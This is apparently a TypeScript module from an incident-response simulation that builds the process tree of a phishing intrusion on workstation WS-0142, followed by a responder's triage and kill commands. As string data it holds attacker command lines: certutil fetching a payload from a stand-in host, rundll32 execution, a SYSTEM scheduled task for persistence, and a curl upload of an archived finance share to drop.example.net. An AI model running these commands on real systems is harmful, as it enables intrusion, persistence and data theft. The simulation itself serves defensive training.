/**
 * The process chain on WS-0142 with the ids of the screen designs: from Outlook to Word to PowerShell and what came of it. Built
 * on the machine's process table, so that parents and logon sessions hold together.
 */
import { NOVAK, SVC_BACKUP, SYSTEM } from '../world/accounts.ts';
import type { Account } from '../world/accounts.ts';
import { on11 } from '../core/time.ts';
import { IMAGES, sys } from '../world/programs.ts';
import type { ProcessHost, WinProcess } from '../windows/process-host.ts';
import { ARCHIVE, ENCODED_POWERSHELL, LOGON_IDS, LURE, PAYLOAD, TASK_NAME, TASK_RUNS_US, TIMES } from './intrusion.ts';

/** Process ids no background process may take. */
export const STORY_PIDS = {
  wininit: 0x204,
  services: 0x28c,
  dcomLaunch: 0x414,
  networkService: 0x9a8,
  winlogon: 0x260,
  dwm: 0x2f4,
  userinit: 0xc54,
  explorer: 0xd10,
  edge: 0x11f8,
  teams: 0x1244,
  outlook: 0xc9c,
  oneDrive: 0x12b0,
  securityTray: 0x12d4,
  word: 0xe20,
  splwow64: 0x19d0,
  powershell: 0x1b74,
  conhost: 0x1b90,
  certutil: 0x1c08,
  rundll32: 0x1c4c,
  whoami: 0x1c80,
  net: 0x1ca4,
  net1: 0x1cac,
  cmdTask: 0x1d38,
  schtasks: 0x1d50,
  cmdDir: 0x1dd4,
  vssadmin: 0x1e10,
  sevenZip: 0x1e6c,
  curl: 0x1ef0,
  wsmprovhost: 0x1fa4,
} as const;

export type ChainStep = keyof typeof STORY_PIDS;

export type Chain = {
  readonly word: WinProcess;
  readonly powershell: WinProcess;
  readonly rundll32: WinProcess;
  readonly steps: readonly WinProcess[];
  readonly taskRuns: readonly WinProcess[];
};

export function runChain(host: ProcessHost, outlook: WinProcess, scheduler: WinProcess): Chain {
  const steps: WinProcess[] = [];
  const add = (step: ChainStep, parent: WinProcess, clock: string, until: string, image: string, commandLine: string, account: Account): WinProcess => {
    const startUs = on11(clock);
    const logonId = account === SVC_BACKUP ? LOGON_IDS.svcBackup : LOGON_IDS.novakInteractive;
    const integrity = account === SVC_BACKUP ? 'High' : 'Medium';
    const made = host.spawn(parent, { image, commandLine, account, logonId, startUs, lifeUs: on11(until) - startUs, pid: STORY_PIDS[step], integrity });
    steps.push(made);
    return made;
  };

  const word = add('word', outlook, '22:03:58.904', '22:24:20.315', IMAGES.word, `"${IMAGES.word}" /n "${LURE.name}"`, NOVAK);
  add('splwow64', word, '22:04:01.377', '22:24:20.298', IMAGES.splwow64, `${IMAGES.splwow64} 12288`, NOVAK);
  const powershell = add('powershell', word, '22:04:17.482', '23:11:17.118', IMAGES.powershell, ENCODED_POWERSHELL.commandLine, NOVAK);
  add('conhost', powershell, '22:04:18.067', '23:11:17.116', IMAGES.conhost, `${IMAGES.conhost} 0xffffffff -ForceV1`, NOVAK);
  add(
    'certutil',
    powershell,
    '22:04:26.730',
    '22:04:27.902',
    IMAGES.certutil,
    `certutil.exe -urlcache -f http://cdn-sync.example.net/u.dat ${PAYLOAD.path}`,
    NOVAK,
  );
  const rundll32 = add('rundll32', powershell, '22:05:02.311', '23:11:17.095', IMAGES.rundll32, `rundll32.exe ${PAYLOAD.path},Start`, NOVAK);
  add('whoami', rundll32, '22:05:40.250', '22:05:40.391', IMAGES.whoami, 'whoami.exe /groups', NOVAK);
  const net = add('net', rundll32, '22:05:44.019', '22:05:44.402', IMAGES.net, 'net.exe group "Domain Admins" /domain', NOVAK);
  add('net1', net, '22:05:44.052', '22:05:44.388', IMAGES.net1, 'C:\\Windows\\system32\\net1 group "Domain Admins" /domain', NOVAK);
  const create = `schtasks /create /tn ${TASK_NAME} /sc minute /mo 30 /tr "rundll32.exe ${PAYLOAD.path},Sync" /ru SYSTEM /f`;
  const cmdTask = add('cmdTask', rundll32, '22:07:31.640', '22:07:32.604', IMAGES.cmd, `cmd.exe /c ${create}`, SVC_BACKUP);
  add('schtasks', cmdTask, '22:07:32.118', '22:07:32.590', IMAGES.schtasks, create.replace('schtasks', 'schtasks.exe'), SVC_BACKUP);
  add('cmdDir', rundll32, '22:08:55.730', '22:09:01.118', IMAGES.cmd, 'cmd.exe /c dir \\\\FS-0007\\finance$ /s /b', SVC_BACKUP);
  add('vssadmin', rundll32, '22:09:05.977', '22:09:06.440', IMAGES.vssadmin, 'vssadmin.exe list shadows', SVC_BACKUP);
  add('sevenZip', rundll32, '22:11:47.066', '22:13:58.771', IMAGES.sevenZip, `7z.exe a -p -mhe ${ARCHIVE.path} \\\\FS-0007\\finance$\\2026`, SVC_BACKUP);
  add('curl', rundll32, '22:14:20.118', '22:21:41.902', IMAGES.curl, `curl.exe -s -T ${ARCHIVE.path} https://drop.example.net/up/q1`, SVC_BACKUP);
  add('wsmprovhost', powershell, '22:25:07.204', '22:36:02.650', IMAGES.wsmprovhost, 'C:\\Windows\\system32\\wsmprovhost.exe -Embedding', NOVAK);

  const taskRuns = TASK_RUNS_US.map((startUs, run) =>
    host.spawn(scheduler, {
      image: IMAGES.rundll32,
      commandLine: `rundll32.exe ${PAYLOAD.path},Sync`,
      account: SYSTEM,
      logonId: 0x3e7,
      startUs,
      lifeUs: (9 + run) * 60_000_000,
    }),
  );
  return { word, powershell, rundll32, steps, taskRuns };
}

/** Two commands run through WMI in the stolen network logon, before the implant takes over. */
export function runWmiProbe(host: ProcessHost, wmi: WinProcess): WinProcess[] {
  const own = { account: SVC_BACKUP, logonId: LOGON_IDS.svcBackup, integrity: 'High' } as const;
  const startUs = on11('22:06:41.305');
  const cmd = host.spawn(wmi, {
    image: IMAGES.cmd,
    commandLine: 'cmd.exe /Q /c systeminfo 1> \\\\127.0.0.1\\ADMIN$\\__1773266801 2>&1',
    startUs,
    lifeUs: 6_200_000,
    ...own,
  });
  const info = host.spawn(cmd, { image: sys('systeminfo.exe'), commandLine: 'systeminfo', startUs: startUs + 61_000, lifeUs: 6_000_000, ...own });
  return [cmd, info];
}

/** The incident responder's look at the machine, 22:44 to 22:49. */
export const RESPONSE_COMMANDS: readonly (readonly [string, string, string])[] = [
  ['22:44:20.118', sys('quser.exe'), 'quser'],
  ['22:44:41.730', sys('tasklist.exe'), 'tasklist /v'],
  ['22:45:03.002', sys('NETSTAT.EXE'), 'netstat -ano'],
  ['22:45:31.440', sys('ipconfig.exe'), 'ipconfig /displaydns'],
  ['22:45:58.215', sys('schtasks.exe'), 'schtasks /query /fo list /v'],
  ['22:46:22.871', sys('sc.exe'), 'sc query type= service state= all'],
  ['22:46:49.036', sys('wevtutil.exe'), 'wevtutil qe Security /c:200 /rd:true /f:text'],
  ['22:47:15.590', sys('reg.exe'), 'reg query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run'],
  ['22:47:44.127', sys('tasklist.exe'), 'tasklist /m u.dat'],
  ['22:48:09.663', sys('netsh.exe'), 'netsh advfirewall show allprofiles'],
  ['22:48:30.908', sys('hostname.exe'), 'hostname'],
  ['22:48:41.120', sys('findstr.exe'), 'findstr /m u.dat C:\\Windows\\Temp\\*'],
  ['22:48:52.349', sys('fsutil.exe'), 'fsutil usn queryjournal C:'],
];

/** When the responder ends the implant. */
export const KILL_COMMAND = { us: TIMES.killed - 131_000, commandLine: 'taskkill /f /t /pid 7028' } as const;
